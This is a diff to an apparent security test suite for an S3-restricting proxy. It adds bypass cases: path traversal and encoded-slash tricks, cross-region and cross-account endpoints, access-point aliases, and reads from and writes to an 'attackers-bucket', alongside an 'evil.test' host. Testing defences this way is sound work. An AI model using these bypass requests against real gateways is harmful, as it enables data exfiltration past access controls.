@@ -41,6 +41,9 @@ class Attack:
     """The ledger's word where it must be this one."""
 
 
+Ticketing = Callable[[Gateway], ProxyTicket]
+
+
 def _door(gateway: Gateway, request: bytes, port: int = 3128, source: str = "") -> int:
     tunnel = ask(gateway, request, port=port, source=source)
     tunnel.connection.close()
@@ -58,6 +61,11 @@ def _connect(line: int, authority: str, reason: str = "", *, name: str = "", ver
 
 def _good(gateway: Gateway) -> ProxyTicket:
     return gateway.signer.sign(aws_claims())
+
+
+def _unnamed(gateway: Gateway) -> ProxyTicket:
+    """For whatever buckets the S3 endpoint lets through."""
+    return gateway.signer.sign(aws_claims(buckets="account"))
 
 
 def _site(gateway: Gateway) -> ProxyTicket:
@@ -243,8 +251,15 @@ def inside_attacks() -> Iterator[Attack]:
     without = good.replace(authorization + b"\r\n", b"")
     host = f"Host: {S3}".encode()
 
-    def inside(line: int, name: str, raw: bytes, at: str = S3) -> Attack:
-        return Attack(line, f"inside: {name}", lambda g: exchange(g, at, raw)[0])
+    def inside(line: int, name: str, raw: bytes, at: str = S3, ticket: Ticketing | None = None) -> Attack:
+        def send(gateway: Gateway) -> int:
+            # The door may refuse already what stands in the host's name.
+            shown = (ticket or _good)(gateway)
+            if _door(gateway, connect_request(f"{at}:443", shown)) != 200:
+                return 407
+            return exchange(gateway, at, raw, ticket=shown)[0]
+
+        return Attack(line, f"inside: {name}", send)
 
     for other in (
         "evil.test",
@@ -449,6 +464,16 @@ def inside_attacks() -> Iterator[Attack]:
         ),
         "monitoring.us-east-1.amazonaws.com",
     )
+    for name, url in {
+        "in another region": "https://s3.eu-west-1.amazonaws.com/attackers-bucket?policy",
+        "by the alias of an access point": f"https://{S3}/attackers-1-s3alias?policy",
+        "behind a step up": f"https://{S3}/../attackers-bucket?policy",
+        "behind an escaped slash": f"https://{S3}/audited-bucket%2F..%2Fattackers-bucket?policy",
+        "and an object of it": f"https://{S3}/attackers-bucket/c2VjcmV0",
+        "of another account's control": "https://210987654321.s3-control.us-east-1.amazonaws.com/v20180820/x",
+    }.items():
+        yield inside(10, f"any bucket, {name}", signed("GET", url), url.split("/")[2], _unnamed)
+    yield inside(10, "any bucket, to write", signed("PUT", f"https://{S3}/attackers-bucket"), S3, _unnamed)
     for method in ("TRACE", "OPTIONS", "PATCH", "PROPFIND", "PURGE"):
         yield inside(4, method, good.replace(b"GET", method.encode(), 1))
     yield inside(4, "HTTP/2's preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
